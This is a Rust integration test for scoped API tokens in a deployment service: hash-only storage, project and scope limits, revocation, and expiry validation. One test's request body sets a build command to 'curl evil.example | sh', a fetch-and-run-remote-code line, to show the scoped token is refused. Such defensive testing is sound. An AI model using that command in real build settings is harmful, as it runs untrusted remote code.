//! API tokens end to end: a token scoped to one project and to
//! project.deploy deploys that project through REST, is refused for
//! another project and for anything else, and is refused at once when
//! revoked. Only its hash is kept; its value is never shown again.

#![expect(clippy::unwrap_used, reason = "tests fail loudly")]

mod common;

use capsule::{config::ServiceKind, proto::auth::v1 as pb};
use common::{TestMesh, authed};
use diesel::{QueryableByName, RunQueryDsl, sql_types::BigInt};
use reqwest::{Method, StatusCode};
use tonic::Code;

async fn rest(
    mesh: &TestMesh,
    method: Method,
    path: &str,
    token: &str,
    body: serde_json::Value,
) -> (StatusCode, String) {
    let mut request = reqwest::Client::new()
        .request(method, format!("http://{}{path}", mesh.http))
        .bearer_auth(token);
    if !body.is_null() {
        request = request.json(&body);
    }
    let response = request.send().await.unwrap();
    (response.status(), response.text().await.unwrap())
}

fn create(name: &str, scopes: &[&str], project_id: &str, days: i32) -> pb::CreateApiTokenRequest {
    pb::CreateApiTokenRequest {
        name: name.to_owned(),
        scopes: scopes.iter().map(|scope| (*scope).to_owned()).collect(),
        project_id: project_id.to_owned(),
        expire_days: days,
    }
}

async fn deploy_over_grpc(
    mesh: &TestMesh,
    token: &str,
    project_id: &str,
) -> Result<tonic::Response<capsule::proto::deploy::v1::Deployment>, tonic::Status> {
    let request = capsule::proto::deploy::v1::CreateDeploymentRequest {
        project_id: project_id.to_owned(),
        ..Default::default()
    };
    mesh.deploys().await.create_deployment(authed(request, token)).await
}

#[derive(QueryableByName)]
struct Count {
    #[diesel(sql_type = BigInt)]
    n: i64,
}

#[tokio::test]
async fn a_project_scoped_deploy_token_deploys_that_project_and_nothing_else() {
    let mesh = common::start().await;
    let (owner, _) = mesh.user("ci-owner@example.com").await;
    let target = common::deploy::project(&mesh, &owner, "true", &[]).await;
    let other = common::deploy::project(&mesh, &owner, "true", &[]).await;
    let mut auth = mesh.auth().await;

    let created = auth
        .create_api_token(authed(create("CI deploys", &["project.deploy"], &target, 30), &owner))
        .await
        .unwrap()
        .into_inner();
    let token = created.token.clone();
    assert!(token.starts_with("capsule_pat_"), "{token}");
    let id = created.api_token.unwrap().id;
    // Stored as its hash only.
    let mut conn = mesh.database(ServiceKind::Auth).connect();
    let stored: Count = diesel::sql_query("SELECT count(*) AS n FROM api_tokens WHERE token_hash = sha256($1::bytea)")
        .bind::<diesel::sql_types::Bytea, _>(token.as_bytes())
        .get_result(&mut conn)
        .unwrap();
    assert_eq!(stored.n, 1);
    let listed = auth
        .list_api_tokens(authed(pb::ListApiTokensRequest {}, &owner))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(listed.api_tokens.len(), 1);
    assert!(listed.api_tokens[0].last_use_time.is_none());
    assert!(!format!("{listed:?}").contains(&token));

    // Deploys its project through REST...
    let (status, body) = rest(
        &mesh,
        Method::POST,
        &format!("/v1/projects/{target}/deployments"),
        &token,
        serde_json::json!({}),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    // ...and over gRPC.
    let deployed = deploy_over_grpc(&mesh, &token, &target).await;
    assert!(deployed.is_ok(), "{deployed:?}");
    // Another project of the same user: as if it did not exist.
    let (status, body) = rest(
        &mesh,
        Method::POST,
        &format!("/v1/projects/{other}/deployments"),
        &token,
        serde_json::json!({}),
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{body}");
    // Anything its scopes do not name: settings, reading, the account.
    let (status, body) = rest(
        &mesh,
        Method::PATCH,
        &format!("/v1/projects/{target}/settings?updateMask=buildCommand"),
        &token,
        serde_json::json!({"buildCommand": "curl evil.example | sh"}),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert!(body.contains("project.settings.write"), "{body}");
    let (status, _) = rest(
        &mesh,
        Method::GET,
        &format!("/v1/projects/{target}"),
        &token,
        serde_json::json!(null),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let mint = auth
        .create_api_token(authed(create("escalate", &["project.secrets.write"], "", 1), &token))
        .await
        .unwrap_err();
    assert_eq!(mint.code(), Code::PermissionDenied, "{mint:?}");
    assert_eq!(
        code_of(auth.get_me(authed(pb::GetMeRequest {}, &token)).await),
        Code::PermissionDenied
    );

    // Its use is recorded.
    let listed = auth
        .list_api_tokens(authed(pb::ListApiTokensRequest {}, &owner))
        .await
        .unwrap()
        .into_inner();
    assert!(listed.api_tokens[0].last_use_time.is_some());

    // Revoked: refused at once, by every service.
    auth.revoke_api_token(authed(pb::RevokeApiTokenRequest { api_token_id: id }, &owner))
        .await
        .unwrap();
    let (status, body) = rest(
        &mesh,
        Method::POST,
        &format!("/v1/projects/{target}/deployments"),
        &token,
        serde_json::json!({}),
    )
    .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED, "{body}");
    let refused = deploy_over_grpc(&mesh, &token, &target).await.unwrap_err();
    assert_eq!(refused.code(), Code::Unauthenticated);
    mesh.stop().await;
}

fn code_of<T>(result: Result<tonic::Response<T>, tonic::Status>) -> Code {
    result.err().map_or(Code::Ok, |status| status.code())
}

#[tokio::test]
async fn a_token_must_be_scoped_and_expire_within_a_year() {
    let mesh = common::start().await;
    let (owner, _) = mesh.user("careful@example.com").await;
    let mut auth = mesh.auth().await;
    for (request, field) in [
        (create("none", &[], "", 1), "scopes"),
        (create("unknown", &["project.everything"], "", 1), "scopes[0]"),
        (create("forever", &["project.read"], "", 400), "expire_days"),
        (create("past", &["project.read"], "", -1), "expire_days"),
        (create("unset", &["project.read"], "", 0), "expire_days"),
    ] {
        let refused = auth.create_api_token(authed(request, &owner)).await.unwrap_err();
        assert_eq!(refused.code(), Code::InvalidArgument, "{field}: {refused:?}");
        assert!(
            common::violated_fields(&refused).iter().any(|f| f == field),
            "{field}: {:?}",
            common::violated_fields(&refused)
        );
    }
    mesh.stop().await;
}
